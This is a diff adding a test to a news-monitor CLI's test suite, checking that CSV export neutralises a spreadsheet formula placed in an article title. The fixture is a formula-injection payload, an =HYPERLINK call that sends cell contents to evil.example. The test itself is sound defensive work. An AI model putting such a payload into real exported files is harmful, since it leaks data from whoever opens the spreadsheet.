@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 
 from rich.console import Console
@@ -48,3 +49,24 @@ def test_show_prints_a_hostile_title_literally(db_url: str):
     proc = run_monitor("show", str(article_id), "--db", db_url)
     assert "[/x]" in proc.stdout and "[bold]خبر[/bold]" in proc.stdout
     assert "\x1b" not in proc.stdout
+
+
+def test_query_csv_cannot_run_as_a_spreadsheet_formula(db_url: str):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"روسیه")'
+    with Session(connect(db_url)) as session:
+        upsert_article(
+            session,
+            article_data(
+                canonical_url="https://www.mehrnews.com/news/2",
+                url="https://www.mehrnews.com/news/2",
+                outlet="mehr",
+                title=formula,
+                body="متن خبر درباره ایران و روسیه",
+            ),
+        )
+        session.commit()
+    proc = run_monitor("query", "--db", db_url, "--rows", "-f", "csv", "--outlet", "mehr")
+    rows = list(csv.DictReader(io.StringIO(proc.stdout)))
+    titles = [row["title"] for row in rows]
+    assert "'" + formula in titles
+    assert not any(cell.startswith(render.FORMULA_START) for row in rows for cell in row.values())
